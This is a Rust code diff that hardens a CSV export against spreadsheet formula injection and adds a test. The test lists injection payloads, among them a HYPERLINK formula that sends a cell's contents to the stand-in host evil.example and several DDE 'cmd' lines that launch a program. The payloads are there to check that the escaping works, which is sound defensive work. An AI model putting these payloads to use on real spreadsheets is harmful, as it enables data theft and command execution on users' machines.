@@ -1,7 +1,7 @@
 //! Tables as CSV (RFC 4180): UTF-8, a line of names, UTC times in ISO 8601, numbers plain with all their digits.
 //!
-//! A spreadsheet takes text that begins with `=`, `+`, `-`, `@`, a tab or a line's end for a formula, whoever wrote it:
-//! such text gets an apostrophe before it. Numbers never do; they are the desk's own.
+//! A spreadsheet takes text that begins with `=`, `+`, `-`, `@` (full-width ones too), a tab, a line's end or NUL for a
+//! formula, whoever wrote it: such text gets an apostrophe before it. Numbers never do; they are the desk's own.
 
 use axum::{
     http::{HeaderValue, StatusCode, header},
@@ -52,7 +52,7 @@ impl Cell {
 
     fn into_field(self) -> String {
         match self {
-            Self::Text(text) if text.starts_with(['=', '+', '-', '@', '\t', '\r']) => format!("'{text}"),
+            Self::Text(text) if text.starts_with(FORMULA_STARTS) => format!("'{text}"),
             Self::Text(text) | Self::Number(text) => text,
             Self::Empty => String::new(),
         }
@@ -82,6 +82,9 @@ fn table<T: CsvRow>(rows: &[T]) -> csv::Result<Vec<u8>> {
     }
     writer.into_inner().map_err(|error| error.into_error().into())
 }
+
+/// First characters of a formula, for one spreadsheet or another.
+const FORMULA_STARTS: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
 
 #[cfg(test)]
 mod tests {
@@ -114,5 +117,46 @@ mod tests {
         check(Cell::text("a=b"), "a=b");
         check(Cell::number("-0.50"), "-0.50");
         check(Cell::time(Timestamp::from_millis(1)), "1970-01-01T00:00:00.001Z");
+    }
+
+    /// The cells as another program reads them: formulas as text after an apostrophe, numbers unchanged.
+    #[test]
+    fn cells_are_read_as_they_were_written() {
+        let formulas = [
+            "=1+1",
+            "=HYPERLINK(\"http://evil.example?\"&A1,\"click\")",
+            "=cmd|' /C calc'!A0",
+            "+1",
+            "+cmd|' /C calc'!A0",
+            "-1+1",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+9)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+            "\n=1+1",
+            "\r\n=1+1",
+            "\0=1+1",
+            "＝1+1",
+            "＋1",
+            "－1",
+            "＠SUM(1)",
+            "=\"a\",\"b\"\r\n=2",
+        ];
+        let harmless = ["", " =1+1", "a=b", "kill-7", "1-2", "\"quoted\", with a comma", "two\r\nlines", "'=1"];
+        let numbers = ["-0.50", "-1", "-1234567.000000001", "0", "12.5"];
+        let text = |prefix: &'static str| move |text: &str| (Cell::text(text), format!("{prefix}{text}"));
+        let cells: Vec<(Cell, String)> = formulas
+            .into_iter()
+            .map(text("'"))
+            .chain(harmless.into_iter().map(text("")))
+            .chain(numbers.into_iter().map(|number| (Cell::number(number), number.to_owned())))
+            .collect();
+        assert!(cells.len() >= 30);
+        let rows: Vec<Row> = cells.iter().map(|(cell, _)| Row(cell.clone())).collect();
+        let bytes = table(&rows).unwrap();
+        let mut reader = csv::Reader::from_reader(bytes.as_slice());
+        let read: Vec<String> = reader.records().map(|record| record.unwrap()[0].to_owned()).collect();
+        let expected: Vec<String> = cells.into_iter().map(|(_, expected)| expected).collect();
+        assert_eq!(read, expected);
     }
 }
